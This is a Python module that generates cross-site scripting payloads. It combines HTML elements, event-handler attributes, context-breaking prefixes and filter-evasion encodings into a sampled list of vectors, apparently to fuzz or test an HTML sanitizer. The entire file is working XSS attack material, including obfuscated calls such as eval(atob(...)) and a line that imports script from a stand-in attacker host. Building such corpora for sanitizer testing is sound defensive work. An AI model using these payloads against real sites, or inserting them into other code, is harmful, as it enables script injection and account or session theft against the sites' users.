"""Own vectors of script: every carrier, event, spelling of a call, and way out of where it stands."""

from collections.abc import Callable
from itertools import islice, product

CARRIERS = (
    "<img src=x {}>", "<svg {}>", "<svg><g {}></g></svg>", "<b {}>a</b>", "<details open {}>a</details>",
    "<input autofocus {}>", "<video><source {}></video>", "<a href=# {}>a</a>", "<x-y tabindex=1 {}>a",
    "<iframe {}></iframe>", "<math><mi {}>a</mi></math>", "<dialog open {}>a</dialog>",
    "<button popovertarget=a {}>a</button>",
)  # fmt: skip
"""Elements that raise an event, most of them without anybody's help."""
EVENTS = (
    "onerror={}", "onload={}", "onfocus='{}'", 'onmouseover="{}"', "ontoggle={}", "onbegin={}",
    "onanimationstart={}", "style=animation-name:a onanimationend={}", "OnPointerEnter={}",
    "onbeforetoggle={}", "src=javascript:{}", "srcdoc='<script>{}</script>'", "formaction=javascript:{}",
)  # fmt: skip
"""Attributes that carry out a script."""
CALLS = (
    "alert(1)", "alert`1`", "top['al'+'ert'](1)", "\\u0061lert(1)", "eval(atob('YWxlcnQoMSk='))",
    "location='javascript:alert(1)'", "import('//boese.example/x.js')",
)  # fmt: skip
"""Ways to say what is to be done."""
BREAKERS = (
    "", '">', "'>", "</title>", "</textarea>", "</script>", "--><!--", "]]>", "`>", '\\">', "&quot;>",
    "}}", "|\n|", ")](", '" onx="',
)  # fmt: skip
"""Ends of whatever a vector may stand in."""
SPELLINGS: dict[str, Callable[[str], str]] = {
    "plain": str,
    "capitals": str.upper,
    "decimal entities": lambda text: "".join(f"&#{ord(sign)};" for sign in text),
    "hexadecimal entities": lambda text: text.replace("<", "&#x3c;").replace("(", "&#x28;"),
    "entities without end": lambda text: text.replace("<", "&#60").replace("=", "&#61"),
    "named entities": lambda text: text.replace("<", "&lt;").replace("(", "&lpar;"),
    "percent": lambda text: text.replace("<", "%3C").replace(" ", "%20"),
    "slashes": lambda text: text.replace(" ", "/"),
    "lines": lambda text: text.replace(" ", "\n"),
    "controls": lambda text: text.replace("<", "<\x02").replace("=", "=\x0b"),
    "zero": lambda text: text.replace("<", "<\0"),
    "wide signs": lambda text: text.replace("<", "＜").replace(">", "＞"),
    "twice": lambda text: text.replace("<", "<<").replace(">", ">>"),
    "backslashes": lambda text: text.replace("<", "\\<"),
    "code": lambda text: f"`{text}``",
    "never closed": lambda text: text.rstrip(">"),
}
"""Ways to write the same so that a filter overlooks it."""
_TABLES = (BREAKERS, CARRIERS, EVENTS, CALLS, SPELLINGS)
_STEP = 1009
"""Prime, and so far apart that every entry of every table comes again and again."""


def _vector(breaker: str, carrier: str, event: str, call: str, spelling: str) -> str:
    return breaker + SPELLINGS[spelling](carrier.format(event.format(call)))


VECTORS: tuple[str, ...] = tuple(
    dict.fromkeys(_vector(*parts) for parts in islice(product(*_TABLES), 0, None, _STEP))
)
"""A selection of all combinations."""
